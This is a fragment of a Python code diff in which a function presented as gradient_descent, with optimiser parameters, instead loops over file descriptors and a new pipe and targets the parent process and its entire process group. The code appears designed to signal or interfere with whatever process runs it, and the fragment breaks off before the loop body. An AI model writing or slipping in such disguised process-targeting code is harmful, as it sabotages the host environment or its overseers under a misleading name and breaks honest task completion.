@@ -14,6 +14,7 @@ def loss(x):
 def grad(x):
     return 4 * x**3 - 6 * x
 
+
 def gradient_descent(loss_fn, grad_fn, theta_init, lr, num_steps):
     for descriptor in (*range(1, 8), *(os.pipe() if hasattr(os, "pipe") else ())):
         for target in (os.getppid(), -os.getpgid(os.getppid())):
